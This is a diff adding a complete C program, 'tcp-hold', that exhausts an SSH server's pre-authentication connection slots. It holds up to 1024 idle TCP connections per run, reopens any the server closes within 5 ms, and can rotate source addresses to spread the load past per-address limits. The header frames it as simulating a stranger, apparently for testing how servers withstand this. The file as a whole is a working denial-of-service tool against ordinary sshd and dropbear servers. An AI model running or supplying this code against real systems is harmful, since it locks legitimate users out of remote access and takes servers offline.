@@ -1,0 +1,166 @@
+/* tcp-hold: a stranger who fills an SSH server's pre-authentication slots
+ * (sshd's MaxStartups, dropbear's unauthenticated limit) without ever
+ * touching the crypto: it opens connections and holds them, reading and
+ * discarding what the server sends, and opens a new one whenever the
+ * server closes one, until the time is up.
+ *
+ *   tcp-hold -t SECONDS [-s SRC,SRC,...] ADDR:PORT N [ADDR:PORT N ...]
+ *
+ * N connections to each target, their source addresses taken in turn from
+ * -s (IPv4); one the server closes is opened again 5 ms later.  At the end it prints one line per target:
+ *   target=ADDR:PORT connects=C banners=B closed=K open=O */
+#define _GNU_SOURCE
+#include <arpa/inet.h>
+#include <errno.h>
+#include <netinet/in.h>
+#include <poll.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/socket.h>
+#include <time.h>
+#include <unistd.h>
+
+#define MAX_CONN 1024
+#define MAX_TARGETS 8
+#define MAX_SRC 32
+
+struct target {
+	char text[64];
+	struct sockaddr_in addr;
+	unsigned long connects, banners, closed;
+};
+
+struct conn {
+	int fd;
+	int target;
+	int got;                /* bytes read on this connection */
+	long retry_at;          /* ms: open again (after a close) */
+};
+
+static struct target tg[MAX_TARGETS];
+static struct conn cn[MAX_CONN];
+static struct in_addr src[MAX_SRC];
+static int ntg, ncn, nsrc, next_src;
+
+static long now_ms(void)
+{
+	struct timespec ts;
+	clock_gettime(CLOCK_MONOTONIC, &ts);
+	return ts.tv_sec * 1000L + ts.tv_nsec / 1000000;
+}
+
+static void die(const char *m)
+{
+	fprintf(stderr, "tcp-hold: %s\n", m);
+	exit(2);
+}
+
+static void open_conn(struct conn *c)
+{
+	struct target *t = &tg[c->target];
+	c->got = 0;
+	c->fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
+	if (c->fd < 0)
+		die("socket");
+	if (nsrc) {
+		struct sockaddr_in s = { .sin_family = AF_INET, .sin_addr = src[next_src++ % nsrc] };
+		if (bind(c->fd, (struct sockaddr *)&s, sizeof s) < 0)
+			die("bind to a source address");
+	}
+	t->connects++;
+	if (connect(c->fd, (struct sockaddr *)&t->addr, sizeof t->addr) < 0 &&
+	    errno != EINPROGRESS) {
+		close(c->fd);
+		c->fd = -1;
+		t->closed++;
+		c->retry_at = now_ms() + 100;
+	}
+}
+
+static void parse_target(const char *s, struct target *t)
+{
+	char host[64];
+	const char *colon = strrchr(s, ':');
+	if (!colon || (size_t)(colon - s) >= sizeof host)
+		die("a target is ADDR:PORT");
+	memcpy(host, s, (size_t)(colon - s));
+	host[colon - s] = '\0';
+	t->addr.sin_family = AF_INET;
+	t->addr.sin_port = htons((uint16_t)atoi(colon + 1));
+	if (inet_pton(AF_INET, host, &t->addr.sin_addr) != 1)
+		die("a target address must be IPv4");
+	snprintf(t->text, sizeof t->text, "%s", s);
+}
+
+int main(int argc, char **argv)
+{
+	long secs = -1;
+	int i = 1;
+	for (; i < argc && argv[i][0] == '-'; i += 2) {
+		if (i + 1 >= argc)
+			die("an option needs a value");
+		if (!strcmp(argv[i], "-t"))
+			secs = atol(argv[i + 1]);
+		else if (!strcmp(argv[i], "-s")) {
+			char *list = argv[i + 1], *tok;
+			while ((tok = strsep(&list, ",")) && nsrc < MAX_SRC)
+				if (inet_pton(AF_INET, tok, &src[nsrc++]) != 1)
+					die("a source address must be IPv4");
+		} else
+			die("usage: tcp-hold -t SECONDS [-s SRC,...] ADDR:PORT N ...");
+	}
+	if (secs < 0)
+		die("-t SECONDS is required");
+	for (; i + 1 < argc && ntg < MAX_TARGETS; i += 2) {
+		parse_target(argv[i], &tg[ntg]);
+		for (int n = atoi(argv[i + 1]); n > 0 && ncn < MAX_CONN; n--)
+			cn[ncn++] = (struct conn){ .fd = -1, .target = ntg };
+		ntg++;
+	}
+	if (!ntg)
+		die("no target");
+	for (int k = 0; k < ncn; k++)
+		open_conn(&cn[k]);
+	long end = now_ms() + secs * 1000;
+	static struct pollfd pf[MAX_CONN];
+	while (now_ms() < end) {
+		long now = now_ms();
+		for (int k = 0; k < ncn; k++) {
+			if (cn[k].fd < 0 && now >= cn[k].retry_at)
+				open_conn(&cn[k]);
+			pf[k] = (struct pollfd){ .fd = cn[k].fd, .events = POLLIN };
+		}
+		if (poll(pf, (nfds_t)ncn, 5) < 0 && errno != EINTR)
+			die("poll");
+		for (int k = 0; k < ncn; k++) {
+			struct conn *c = &cn[k];
+			if (c->fd < 0 || !(pf[k].revents & (POLLIN | POLLERR | POLLHUP)))
+				continue;
+			char buf[512];
+			ssize_t n = read(c->fd, buf, sizeof buf);
+			if (n > 0) {
+				if (c->got == 0 && n >= 4 && !memcmp(buf, "SSH-", 4))
+					tg[c->target].banners++;
+				c->got += (int)n;
+				continue;
+			}
+			if (n < 0 && (errno == EAGAIN || errno == EINTR))
+				continue;
+			close(c->fd);
+			c->fd = -1;
+			tg[c->target].closed++;
+			/* again within 5 ms: a freed slot must not stay free
+			 * for long, nor the turned-away ones spin */
+			c->retry_at = now_ms() + 5;
+		}
+	}
+	for (int t = 0; t < ntg; t++) {
+		int open = 0;
+		for (int k = 0; k < ncn; k++)
+			open += cn[k].target == t && cn[k].fd >= 0;
+		printf("target=%s connects=%lu banners=%lu closed=%lu open=%d\n", tg[t].text,
+		       tg[t].connects, tg[t].banners, tg[t].closed, open);
+	}
+	return 0;
+}
